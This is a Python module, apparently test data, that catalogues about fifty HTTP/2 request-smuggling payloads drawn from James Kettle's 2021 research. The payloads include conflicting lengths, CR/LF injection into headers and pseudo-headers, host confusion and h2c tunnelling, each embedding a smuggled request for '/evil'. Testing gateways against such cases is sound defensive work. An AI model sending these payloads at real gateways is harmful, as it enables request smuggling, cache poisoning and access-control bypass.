"""Requests over HTTP/2 that some gateways turn into several requests of HTTP/1.1, or into one for another host.

James Kettle: HTTP/2: The Sequel is Always Worse (2021). `EVIL` is in what a deceived backend would take for a request.
"""

from typing import NamedTuple

EVIL = "/evil"
_SMUGGLED = f"GET {EVIL} HTTP/1.1\r\nHost: a.test\r\n\r\n"
_CHUNKED = f"0\r\n\r\n{_SMUGGLED}"


class Attack(NamedTuple):
    """A request. `lies` of its length: its head is well-formed, and its content is not."""

    fields: list[tuple[str, str]]
    content: str = ""
    lies: bool = False


def _attack(*fields: tuple[str, str], content: str = "", lies: bool = False, **pseudo: str) -> Attack:
    usual = {"method": "POST", "scheme": "http", "authority": "a.test", "path": "/", **pseudo}
    return Attack([*((f":{name}", value) for name, value in usual.items()), *fields], content, lies)


ATTACKS = {
    "H2.CL: no length but content": _attack(("content-length", "0"), content=_SMUGGLED, lies=True),
    "H2.CL: less than the content": _attack(("content-length", "3"), content="x=1" + _SMUGGLED, lies=True),
    "H2.CL: more than the content": _attack(("content-length", "100"), content="x=1", lies=True),
    "H2.CL: two lengths": _attack(("content-length", "0"), ("content-length", "3"), content="x=1"),
    "H2.CL: two lengths in one": _attack(("content-length", "3, 3"), content="x=1"),
    "H2.CL: a sign": _attack(("content-length", "+3"), content="x=1"),
    "H2.TE": _attack(("transfer-encoding", "chunked"), content=_CHUNKED),
    "H2.TE: beside a length": _attack(("content-length", "3"), ("transfer-encoding", "chunked"), content="x=1"),
    "H2.TE: by Connection": _attack(("connection", "transfer-encoding"), content=_CHUNKED),
    "H2.TE: another spelling": _attack(("Transfer-Encoding", "chunked"), content=_CHUNKED),
    "CR LF in a value": _attack(("x", "b\r\ntransfer-encoding: chunked"), content=_CHUNKED),
    "CR LF in a value: two requests": _attack(("x", f"b\r\nhost: a.test\r\n\r\n{_SMUGGLED}")),
    "CR LF in a cookie": _attack(("cookie", "a=1"), ("cookie", "b\r\ntransfer-encoding: chunked"), content=_CHUNKED),
    "LF in a value": _attack(("x", "b\ntransfer-encoding: chunked"), content=_CHUNKED),
    "CR in a value": _attack(("x", "b\rtransfer-encoding: chunked"), content=_CHUNKED),
    "NUL in a value": _attack(("x", "b\0transfer-encoding: chunked"), content=_CHUNKED),
    "CR LF at the end of a value": _attack(("x", "b\r\n")),
    "a blank before a value": _attack(("content-length", " 0"), content="x=1"),
    "CR LF in a name": _attack(("x: b\r\ntransfer-encoding", "chunked"), content=_CHUNKED),
    "LF in a name": _attack(("x: b\ntransfer-encoding", "chunked"), content=_CHUNKED),
    "a request in a name": _attack((f"x: b\r\nhost: a.test\r\n\r\nGET {EVIL} HTTP/1.1\r\nx", "y")),
    "a colon in a name": _attack(("transfer-encoding: chunked", ""), content=_CHUNKED),
    "a colon at the end of a name": _attack(("transfer-encoding:", "chunked"), content=_CHUNKED),
    "a blank at the end of a name": _attack(("transfer-encoding ", "chunked"), content=_CHUNKED),
    "an empty name": _attack(("", "x"), content=_CHUNKED),
    "CR LF in :method": _attack(method=f"GET {EVIL} HTTP/1.1\r\ntransfer-encoding: chunked\r\nx: y", content=_CHUNKED),
    "a blank in :method": _attack(method=f"GET {EVIL} HTTP/1.1 x"),
    "CR LF in :path": _attack(path="/ HTTP/1.1\r\ntransfer-encoding: chunked\r\nx: y", content=_CHUNKED),
    "a request in :path": _attack(path=f"/ HTTP/1.1\r\nhost: a.test\r\n\r\n{_SMUGGLED}"),
    "a blank in :path": _attack(path=f"{EVIL} HTTP/1.1"),
    "CR LF in :authority": _attack(authority="a.test\r\ntransfer-encoding: chunked", content=_CHUNKED),
    "a path in :authority": _attack(authority=f"a.test{EVIL}?"),
    "userinfo in :authority": _attack(authority="a.test@b.test"),
    "CR LF in :scheme": _attack(scheme="http\r\ntransfer-encoding: chunked", content=_CHUNKED),
    "a URL in :scheme": _attack(scheme=f"http://b.test{EVIL}?"),
    "a URL in :path": _attack(path=f"http://b.test{EVIL}"),
    "an authority in :path": _attack(path=f"@b.test{EVIL}"),
    "a path without a slash": _attack(path=EVIL[1:]),
    "two :path": _attack((":path", EVIL)),
    "two :method": _attack((":method", "GET")),
    "two :authority": _attack((":authority", "b.test")),
    "two :scheme": _attack((":scheme", "https")),
    "a late :path": _attack(("x", "y"), (":path", EVIL)),
    "an unknown pseudo-field": _attack((":evil", "x")),
    "a host besides :authority": _attack(("host", "b.test")),
    "two hosts": _attack(("host", "a.test"), ("host", "b.test")),
    "h2c": _attack(("connection", "upgrade, http2-settings"), ("upgrade", "h2c"), ("http2-settings", "AAAA")),
    "a tunnel by HEAD": _attack(("x", f"b\r\n\r\n{_SMUGGLED}"), method="HEAD"),
    "a tunnel by HEAD and :path": _attack(path=f"/ HTTP/1.1\r\nhost: a.test\r\n\r\n{_SMUGGLED}x", method="HEAD"),
    "a :protocol without CONNECT": _attack((":protocol", "websocket"), method="GET"),
}
